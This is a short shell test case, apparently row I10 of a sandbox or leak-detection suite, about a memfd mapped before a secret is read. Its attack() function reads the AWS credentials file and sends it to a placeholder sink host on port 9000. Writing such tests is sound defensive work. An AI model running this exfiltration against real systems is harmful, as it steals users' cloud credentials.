# SPDX-License-Identifier: Apache-2.0
TITLE="a mapped memfd, mapped before the secret is read"
ROW="I10"
attack() { "$PROVOKE/shm" memfd "$HOME/.aws/credentials" "$SINK4" 9000; }
